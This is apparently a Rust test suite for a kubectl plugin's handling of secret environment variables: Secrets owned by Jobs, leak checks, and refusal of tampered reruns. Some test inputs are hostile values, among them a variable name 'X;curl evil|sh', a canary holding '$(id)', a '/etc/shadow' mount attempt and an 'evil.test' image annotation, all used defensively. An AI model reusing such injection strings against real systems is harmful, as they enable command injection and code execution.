//! What is nobody else's business: it is in a Secret that goes with the run, or in a secret mount of the build.

use std::fs;

use serde_json::{Value, json};

use crate::support::World;

/// Stands for a password; in base64, too, as a Secret has it.
const CANARY: &str = "can'ary\"$(id)`x`";
const ENCODED: &str = "Y2FuJ2FyeSIkKGlkKWB4YA==";

/// A world whose cluster gives a Job its uid, and in which the variable `HF_TOKEN` is set.
fn world() -> World {
    let mut world = World::new();
    world.on(
        "*' create '*'-o json'*",
        r#"sed 's/^  "metadata": {$/  "metadata": { "uid": "u-7",/' "$call.stdin"; exit 0"#,
    );
    world.on("*' create '*'-o name'*", "echo made; exit 0");
    world.env("HF_TOKEN", CANARY);
    world
}

/// The Secret of the run.
fn secret(world: &World) -> Value {
    let made = world.calls_with("-o name --validate=false");
    assert_eq!(made.len(), 1, "{made:?}");
    made[0].json()
}

/// The variables of a Job's container that are in a Secret.
fn referred(job: &Value) -> Vec<(&str, &str)> {
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap();
    let refer = |variable: &'_ Value| variable["valueFrom"]["secretKeyRef"]["key"].is_string();
    let names = |variable| -> Option<(&str, &str)> {
        let variable: &Value = variable;
        Some((variable["name"].as_str()?, variable["valueFrom"]["secretKeyRef"]["name"].as_str()?))
    };
    env.iter().filter(|variable| refer(variable)).filter_map(names).collect()
}

/// That the canary is in the input of that many calls, and nowhere else below the world's folder.
#[track_caller]
fn assert_hidden(world: &World, calls: usize) {
    let mut found = Vec::new();
    let mut folders = vec![world.path("")];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap().map(|entry| entry.unwrap()) {
            if entry.file_type().unwrap().is_dir() {
                folders.push(entry.path());
            } else if let Ok(bytes) = fs::read(entry.path()) {
                let text = String::from_utf8_lossy(&bytes);
                if text.contains("ary\"$(id)") || text.contains("ary\\\"$(id)") || text.contains(ENCODED) {
                    found.push(entry.path());
                }
            }
        }
    }
    let in_calls = found.iter().filter(|path| path.extension().is_some_and(|e| e == "stdin")).count();
    assert_eq!((in_calls, found.len()), (calls, calls), "{found:?}");
}

#[test]
fn a_variable_is_in_the_secret_that_the_job_owns_and_nowhere_else() {
    let world = world();
    let outcome = world.run(&["-v", "9", "run", "--secret-env", "HF_TOKEN", "train.py"]).ok();
    let job = world.job();
    let run = job["metadata"]["name"].as_str().unwrap();
    assert_eq!(referred(&job), [("HF_TOKEN", format!("{run}-env").as_str())]);
    assert_eq!(job["spec"]["suspend"], true);
    let secret = secret(&world);
    assert_eq!(secret["metadata"]["name"], format!("{run}-env"));
    assert_eq!(
        secret["metadata"]["ownerReferences"],
        json!([{"apiVersion": "batch/v1", "kind": "Job", "name": run, "uid": "u-7"}])
    );
    assert_eq!((&secret["data"], &secret["immutable"]), (&json!({ "HF_TOKEN": ENCODED }), &json!(true)));
    // it goes only once its Secret is there, and what kubectl logs of that has no body in it
    let lines: Vec<String> = world.calls().iter().map(crate::support::Call::line).collect();
    let at = |words: &str| lines.iter().position(|line| line.contains(words)).unwrap();
    assert!(at("--validate=false") < at(r#"{"spec":{"suspend":false}}"#), "{lines:?}");
    assert!(lines[at("--validate=false")].contains(" --v 6 "), "{lines:?}");
    assert!(outcome.stderr.contains("\"$(printf %s \"$HF_TOKEN\" | base64 | tr -d '\\n')\""), "{}", outcome.stderr);
    assert!(!outcome.stderr.contains("ary") && !outcome.stderr.contains(ENCODED), "{}", outcome.stderr);
    assert_hidden(&world, 1);
}

#[test]
fn a_file_of_variables_is_read_and_a_flag_counts_more() {
    let world = world();
    world.write("vision/a.env", "# of the team\nUSER_KEY=x=\"$y\" z\nHF_TOKEN=old\nEMPTY=\n");
    world.write("vision/b.env", "EMPTY=b\nHF_TOKEN\n");
    let args = ["run", "--env-file", "a.env", "--env-file", "b.env", "--secret-env", "HF_TOKEN"];
    world.run(&[&args[..], &["--grid", "x=1,2", "train.py"]].concat()).ok();
    let data = |key: &str| secret(&world)["data"][key].as_str().unwrap().to_owned();
    assert_eq!([data("USER_KEY"), data("EMPTY"), data("HF_TOKEN")], ["eD0iJHkiIHo=", "Yg==", ENCODED]);
    assert_eq!(secret(&world)["data"].as_object().unwrap().len(), 3);
    // each once, beside the points of a sweep
    let job = world.job();
    let mut names: Vec<&str> = referred(&job).iter().map(|(name, _)| *name).collect();
    names.sort_unstable();
    assert_eq!(names, ["EMPTY", "HF_TOKEN", "USER_KEY"]);
    assert_hidden(&world, 1);
}

#[test]
fn a_secret_counts_more_than_a_variable_of_the_experiment_file() {
    let world = world();
    world.write("vision/mrunner.yaml", "env: {HF_TOKEN: none, OTHER: a}\n");
    world.run(&["run", "--secret-env", "HF_TOKEN", "train.py"]).ok();
    let job = world.job();
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap();
    assert_eq!(env.iter().filter(|variable| variable["name"] == "HF_TOKEN").count(), 1);
    assert_eq!(referred(&job).len(), 1);
}

#[test]
fn what_is_no_secret_variable_is_told_before_anything_is_done() {
    for (args, words) in [
        (
            &["--secret-env", "NOT_SET"][..],
            "error: the variable `NOT_SET` is empty or not set\nhint: set it, such as with `read -rs NOT_SET && export NOT_SET`\n",
        ),
        (
            &["--secret-env", "HF_TOKEN=canary"],
            "error: `--secret-env` must be the name of an environment variable\nhint: write the name of the variable, never the password\n",
        ),
        (
            &["--secret-env", "MRUNNER_RUN"],
            "error: the variable `MRUNNER_RUN` is set by mrunner itself\nhint: give the secret another name\n",
        ),
        (&["--env-file", "no.env"], "error: there is no file `[DIR]/vision/no.env`\n"),
        (
            &["--env-file", "bad.env"],
            "error: `[DIR]/vision/bad.env` line 2: has a value in quotes, which would be a part of it\nhint: write `NAME=VALUE`, one to a line, the value as it is\n",
        ),
        (&["--env-file", "."], "is a directory, not a file\n"),
        (&["--env-file", "long.env"], "error: the variable `LONG` is longer than Linux hands to a process, 128 KiB\n"),
        (
            &["--env-file", "many.env", "--env-file", "more.env"],
            "error: the secret variables take 1270 KiB, and a Secret has room for 1024\n",
        ),
        (
            &["--build-secret", "HF_TOKEN"],
            "error: nothing in the build would use `--build-secret`: there are no requirements to install\n",
        ),
        (
            &["--build-secret", "NOT_SET", "--requirements", "r.txt"],
            "error: the variable `NOT_SET` is empty or not set\n",
        ),
        (
            &["--build-secret", "A,src=/etc/shadow", "--requirements", "r.txt"],
            "error: `--build-secret` must be the name",
        ),
    ] {
        let world = world();
        world.write("vision/bad.env", "A=b\nB=\"canary\"\n");
        world.write("vision/long.env", format!("LONG={}\n", "x".repeat(128 << 10)));
        for (file, first) in [("many.env", 0), ("more.env", 5)] {
            let many: Vec<String> = (first..first + 5).map(|i| format!("M{i}={}\n", "x".repeat(127 << 10))).collect();
            world.write(&format!("vision/{file}"), many.concat());
        }
        world.write("vision/r.txt", "numpy\n");
        let outcome = world.run(&[&["run"], args, &["train.py"]].concat());
        assert_eq!((outcome.code, outcome.stdout.as_str()), (2, ""), "{outcome:?}");
        assert!(outcome.stderr.contains(words) && !outcome.stderr.contains("canary"), "{words}\n{}", outcome.stderr);
        assert!(
            world.journals().is_empty() && world.submissions().is_empty() && world.calls_with(" build ").is_empty()
        );
    }
}

#[test]
fn a_submission_that_was_cut_off_needs_the_value_again() {
    let mut world = world();
    world.on("*' create '*'-o name'*", "kill -9 $PPID; exit 1");
    assert_eq!(world.run(&["run", "--secret-env", "HF_TOKEN", "train.py"]).code, 137);
    let journal = world.journals().into_iter().find_map(|name| Some(name.strip_suffix(".json")?.to_owned())).unwrap();
    world.on("*' create '*'-o name'*", "echo made; exit 0");
    world.on("*' get job/'*", "cat \"$world\"/calls/*.stdin | grep -v '\"data\"' | head -1000 >/dev/null; exit 0");
    fs::remove_dir_all(world.path("calls")).unwrap();
    fs::create_dir(world.path("calls")).unwrap();
    world.env("HF_TOKEN", "");
    let refused = world.run(&["run", "--resume", &journal]);
    assert_eq!(refused.code, 2);
    assert!(refused.stderr.contains("error: the variable `HF_TOKEN` is empty or not set\n"), "{}", refused.stderr);
    // nothing is forgotten: the Job may be there, and waits
    assert!(world.journals().contains(&format!("{journal}.json")));
    world.env("HF_TOKEN", CANARY);
    world.run(&["run", "--resume", &journal]).ok();
    assert_eq!(secret(&world)["data"]["HF_TOKEN"], ENCODED);
    assert!(world.journals().is_empty());
    assert_hidden(&world, 1);
}

#[test]
fn a_file_with_bare_names_finishes_a_run_that_was_cut_off() {
    let mut world = world();
    world.write("vision/a.env", "A=1\nHF_TOKEN\n");
    world.on("*' create '*'-o name'*", "kill -9 $PPID; exit 1");
    assert_eq!(world.run(&["run", "--secret-env", "HF_TOKEN", "--env-file", "a.env", "train.py"]).code, 137);
    let journal = world.journals().into_iter().find_map(|name| Some(name.strip_suffix(".json")?.to_owned())).unwrap();
    forget_calls(&world);
    world.on("*' create '*'-o name'*", "echo made; exit 0");
    // a name alone makes nothing of the environment out of what was in a file
    world.write("vision/b.env", "A=2\nHF_TOKEN\nHOME\n");
    world
        .run(&["run", "--resume", &journal, "--env-file", "b.env", "--env-file", "c.env"])
        .fails(2, "error: there is no file `[DIR]/vision/c.env`\n");
    world.write("vision/c.env", "A\n");
    world.run(&["run", "--resume", &journal, "--env-file", "b.env", "--env-file", "c.env"]).ok();
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED, "A": "Mg=="}));
}

#[test]
fn a_job_whose_secret_is_refused_is_taken_back() {
    let mut world = world();
    world.on(
        "*--validate=false*",
        "echo 'Error from server (Forbidden): secrets is forbidden: User \"anna\" cannot create resource \"secrets\"' >&2; exit 1",
    );
    world.on("*' delete jobs '*", "echo gone; exit 0");
    let outcome = world.run(&["run", "--secret-env", "HF_TOKEN", "train.py"]);
    assert_eq!((outcome.code, outcome.stdout.as_str()), (1, ""));
    assert!(
        outcome.stderr.contains(
            "error: failed to put the secret variables of `train-[ID]` into the cluster; nothing was submitted\n"
        ),
        "{}",
        outcome.stderr
    );
    assert_eq!(world.calls_with(" delete jobs ").len(), 1);
    assert!(world.journals().is_empty());
}

/// What comes of a Secret that is there, after `lost` answers, where the cluster shows `shown` of it.
fn with_a_secret_that_is_there(lost: u32, shown: &str) -> (World, crate::support::Outcome) {
    let mut world = world();
    world.env("MRUNNER_TEST_PATIENCE", "0.001");
    let exists = r#"echo 'Error from server (AlreadyExists): secrets "x" already exists' >&2; exit 1"#;
    world.on(
        "*--validate=false*",
        &format!(
            r#"cp "$call.stdin" "$world/own.json"; echo >>"$world/tries"
            if [ $(wc -l <"$world/tries") -le {lost} ]; then echo 'Unable to connect to the server: EOF' >&2; exit 1; fi
            {exists}"#
        ),
    );
    world.on("*' get secret/train-'*", shown);
    world.on("*' delete jobs '*", "echo gone; exit 0");
    let outcome = world.run(&["run", "--secret-env", "HF_TOKEN", "train.py"]);
    (world, outcome)
}

/// Everybody who may list Jobs knows the name that the Secret will have.
#[test]
fn a_secret_that_somebody_else_was_faster_to_create_is_not_used() {
    let own = r#"cat "$world/own.json"; exit 0"#;
    for (lost, shown) in [
        (0, own),
        (1, r#"sed 's/"HF_TOKEN":"[^"]*"/"HF_TOKEN":"eA=="/' "$world/own.json"; exit 0"#),
        (1, r#"sed 's/"immutable":true,//' "$world/own.json"; exit 0"#),
        (1, r#"echo '{"kind": "List", "items": []}'; exit 0"#),
    ] {
        let (world, outcome) = with_a_secret_that_is_there(lost, shown);
        let words = "error: the cluster has another Secret under the name of the run `train-[ID]`";
        assert!(outcome.code == 1 && outcome.stderr.contains(words), "{outcome:?}");
        assert_eq!((world.calls_with(" delete jobs ").len(), world.calls_with(" patch job/").len()), (1, 0));
        // who was refused the first time at once has none there
        assert_eq!(world.calls_with(" get secret/").len(), lost as usize);
        assert!(world.journals().is_empty());
    }
    // an earlier try got through
    let (world, outcome) = with_a_secret_that_is_there(1, own);
    assert!(outcome.ok().stdout == "train-[ID]\n" && world.calls_with(" patch job/").len() == 1);
    let refused = "echo 'Error from server (Forbidden): secrets \"x\" is forbidden: User \"anna\" cannot get resource \"secrets\"' >&2; exit 1";
    let outcome = with_a_secret_that_is_there(1, refused).1.ok();
    assert!(outcome.stderr.contains("warning: you may not read the Secret `train-[ID]-env`"), "{outcome:?}");
}

#[test]
fn a_saved_run_takes_the_values_from_whoever_submits_it() {
    let world = world();
    world.run(&["run", "--secret-env", "HF_TOKEN", "--image", "a/b", "--out", "saved", "train.py"]).ok();
    let shown = world.run(&["run", "--secret-env", "HF_TOKEN", "--image", "a/b", "--dry-run", "train.py"]).ok().stdout;
    assert!(shown.contains("\"$(printf %s \\\"$HF_TOKEN\\\"") || shown.contains("$(printf %s"), "{shown}");
    assert!(!shown.contains(ENCODED) && !shown.contains("ary"), "{shown}");
    assert_hidden(&world, 0);
    let mut world = world;
    world.on("*' get job '*'-o jsonpath='*", "printf u-9; exit 0");
    world.command(&["version", "--client"]).status().unwrap();
    let script = |value: &str| {
        let path = format!("{}:/usr/bin:/bin", world.path("bin").display());
        let mut command = std::process::Command::new("sh");
        command.arg(world.path("vision/saved/run.sh")).env("PATH", path);
        if value.is_empty() {
            command.env_remove("HF_TOKEN")
        } else {
            command.env("HF_TOKEN", value)
        };
        command.output().unwrap()
    };
    let unset = script("");
    assert!(!unset.status.success() && String::from_utf8_lossy(&unset.stderr).contains("HF_TOKEN"));
    fs::remove_dir_all(world.path("calls")).unwrap();
    fs::create_dir(world.path("calls")).unwrap();
    let output = script(CANARY);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let secret = secret(&world);
    assert_eq!(secret["data"]["HF_TOKEN"], ENCODED);
    assert_eq!(secret["metadata"]["ownerReferences"][0]["uid"], "u-9");
}

/// A run with these secret variables that has ended, as the cluster shows it.
fn ended_run(world: &mut World, args: &[&str]) -> Value {
    world.run(&[&["run"], args, &["train.py"]].concat()).ok();
    let mut job = world.job();
    job["metadata"]["uid"] = "u-7".into();
    job["status"]["conditions"] = json!([{"type": "Complete", "status": "True"}]);
    world.shows(std::slice::from_ref(&job));
    forget_calls(world);
    job
}

fn forget_calls(world: &World) {
    fs::remove_dir_all(world.path("calls")).unwrap();
    fs::create_dir(world.path("calls")).unwrap();
}

#[test]
fn a_run_once_more_takes_the_variables_that_were_named_here() {
    let mut world = world();
    let job = ended_run(&mut world, &["--secret-env", "HF_TOKEN", "--secret-env", "HOME"]);
    let old = job["metadata"]["name"].as_str().unwrap();
    world.write("vision/more.env", "HOME=/elsewhere\nNOT_ASKED_FOR=x\n");
    world.run(&["rerun", old, "--env-file", "more.env"]).ok();
    let job = world.job();
    let run = job["metadata"]["name"].as_str().unwrap();
    assert_ne!(run, old);
    let own = format!("{run}-env");
    assert_eq!(referred(&job), [("HF_TOKEN", own.as_str()), ("HOME", own.as_str())]);
    assert_eq!(job["spec"]["suspend"], true);
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED, "HOME": "L2Vsc2V3aGVyZQ=="}));
    world.env("HF_TOKEN", "");
    let refused = world.run(&["rerun", old]);
    assert!(refused.code == 2 && refused.stderr.contains("the variable `HF_TOKEN` is empty or not set"), "{refused:?}");
    assert!(!world.read("home/.local/state/mrunner/submitted.json").contains("ary"));
}

#[test]
fn a_name_that_only_the_cluster_gives_takes_no_value_away() {
    let mut world = world();
    world.write("vision/own.env", "HF_TOKEN=of the file\n");
    let job = ended_run(&mut world, &["--env-file", "own.env"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let refusal = |world: &World, args: &[&str], cause: &str| {
        let words = format!(
            "error: nothing was submitted: the run `train-[ID]` asks for secret variables: `HF_TOKEN`
  cause: {cause}
hint: if the run may have your own variables, name them: `kubectl mrunner rerun -n vision train-[ID] --secret-env HF_TOKEN`
hint: or give the values in a file: `kubectl mrunner rerun -n vision train-[ID] --env-file FILE`
"
        );
        world.run(&[&["rerun", &old], args].concat()).fails(2, &words);
        assert!(world.calls_with(" create ").is_empty() && world.journals().is_empty());
    };
    refusal(&world, &[], "their values came from a file, and are kept nowhere");
    refusal(&world, &["--dry-run"], "their values came from a file, and are kept nowhere");
    // somebody else's Job of the same name, with all that the first one said of itself
    let mut evil = job.clone();
    evil["metadata"]["uid"] = "u-8".into();
    world.show(&[evil.clone()]);
    let replaced = "the Job of this name is not the one that this machine submitted: somebody has replaced it";
    refusal(&world, &[], replaced);
    // one that another machine, or nobody, submitted
    let note = world.path("home/.local/state/mrunner/submitted.json");
    for text in ["", "[", "{}", "[{\"run\": 1}]"] {
        fs::write(&note, text).unwrap();
        refusal(&world, &[], "this machine has no record of submitting the run");
    }
    fs::remove_file(&note).unwrap();
    refusal(&world, &[], "this machine has no record of submitting the run");
    // a file that somebody else wrote gives no name either
    world.write("vision/bare.env", "HF_TOKEN\n");
    world.run(&["rerun", &old, "--env-file", "bare.env"]).fails(
        2,
        "error: `[DIR]/vision/bare.env` names `HF_TOKEN` without a value
hint: to pass your own variables, name them: `--secret-env HF_TOKEN`
",
    );
    world.run(&["rerun", &old, "--secret-env", "HOME"]).fails(
        2,
        "error: the run `train-[ID]` has no secret variable `HOME`\nhint: its secret variables: `HF_TOKEN`\n",
    );
    assert!(world.calls_with(" create ").is_empty());
    world.run(&["rerun", &old, "--env-file", "bare.env", "--secret-env", "HF_TOKEN"]).ok();
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED}));
    forget_calls(&world);
    world.run(&["rerun", &old, "--env-file", "own.env"]).ok();
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": "b2YgdGhlIGZpbGU="}));
}

/// Whoever may patch Jobs can change what a run's pods are labelled with, which others in the cluster act upon.
#[test]
fn values_go_to_no_pod_that_somebody_else_has_shaped() {
    let mut world = world();
    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    world.run(&["rerun", "--dry-run", &old]).ok();
    let config = job["metadata"]["annotations"]["mrunner/config"].as_str().unwrap();
    let mut config: Value = serde_json::from_str(config).unwrap();
    config["pod"] = json!({"annotations": {"inject.example.com/image": "evil.test/x"}});
    job["metadata"]["annotations"]["mrunner/config"] = config.to_string().into();
    world.show(&[job]);
    let outcome = world.run(&["rerun", &old]);
    let cause = "  cause: the annotation `mrunner/config` of the Job is not the one that this machine submitted: ";
    assert!(outcome.code == 2 && outcome.stderr.contains(cause), "{outcome:?}");
    assert!(world.calls_with(" create ").is_empty());
}

/// A hint is there to be typed.
#[test]
fn a_name_that_is_a_command_is_in_no_hint() {
    let mut world = world();
    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array_mut().unwrap();
    let secret = env.iter_mut().find(|variable| variable["name"] == "HF_TOKEN").unwrap();
    secret["name"] = "X;curl evil|sh".into();
    job["metadata"]["uid"] = "u-8".into();
    world.show(&[job]);
    let outcome = world.run(&["rerun", &old]);
    let words = "error: the Job of the run `train-[ID]` has a secret variable with an invalid name: `X;curl evil|sh`\n";
    assert!(outcome.code == 1 && outcome.stderr.contains(words), "{outcome:?}");
    assert!(!outcome.stderr.contains("--secret-env X"), "{outcome:?}");
}

#[test]
fn the_same_run_of_another_cluster_is_another_run() {
    let mut world = world();
    let job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let outcome = world.run(&["--kube-context", "kube-other", "rerun", "-n", "vision", &old]);
    assert!(
        outcome.code == 2 && outcome.stderr.contains("this machine has no record of submitting the run"),
        "{outcome:?}"
    );
    world.run(&["rerun", &old]).ok();
}

#[test]
fn a_file_of_variables_names_none_of_the_environment_alone() {
    let world = world();
    world.write("vision/b.env", "A=1\nHF_TOKEN\nHOME\nHF_TOKEN\n");
    for more in [&[][..], &["--secret-env", "A"], &["--dry-run"]] {
        let outcome = world.run(&[&["run", "--env-file", "b.env"], more, &["train.py"]].concat());
        assert_eq!(outcome.code, 2);
        assert!(outcome.stderr.contains("/vision/b.env` names `HF_TOKEN`, `HOME` without a value\n"), "{outcome:?}");
    }
    assert!(world.submissions().is_empty());
}

#[test]
fn the_build_reads_a_secret_from_the_environment_and_no_layer_has_it() {
    let world = world();
    world.write("vision/r.txt", "--extra-index-url https://x:${HF_TOKEN}@index.test/simple\nnumpy\n");
    let args = ["run", "--build-secret", "HF_TOKEN", "--build-secret", "HF_TOKEN", "--requirements", "r.txt"];
    world.run(&[&args[..], &["train.py"]].concat()).ok();
    let build = world.calls_with(" buildx build ");
    assert!(build[0].line().contains(" --secret id=HF_TOKEN,env=HF_TOKEN "), "{}", build[0].line());
    let dockerfile = String::from_utf8_lossy(&build[0].stdin).into_owned();
    assert_eq!(dockerfile.matches("--mount=type=secret,id=HF_TOKEN,required=true ").count(), 1, "{dockerfile}");
    assert_eq!(world.job()["spec"].get("suspend"), None);
    assert_hidden(&world, 0);
}

#[test]
fn a_file_of_variables_is_no_part_of_the_image_whatever_its_name() {
    for name in [".env", "sub/my.env", "a [b]*{c}!#?.env ", "\\x", "é"] {
        let world = world();
        world.write(&format!("vision/{name}"), format!("A={CANARY}\n"));
        world.write("vision/sub/other.env", "not named\n");
        world.write("vision/.mrunnerignore", "!.env\n!*.env\n");
        std::os::unix::fs::symlink(name, world.path("vision/link.env")).unwrap();
        let names = [name.to_owned(), format!("./{name}"), format!("sub/../{name}"), "link.env".to_owned()];
        for file in names.into_iter().chain([world.path(&format!("vision/{name}")).display().to_string()]) {
            world.run(&["run", "--env-file", &file, "train.py"]).ok();
        }
        let builds = world.calls_with(" buildx build ");
        assert_eq!(builds.len(), 5);
        for build in builds {
            let sent = String::from_utf8_lossy(&build.stdin).into_owned();
            assert!(!sent.contains("ary\"$(id)") && sent.contains("not named"), "{name:?}: {}", build.line());
        }
    }
}
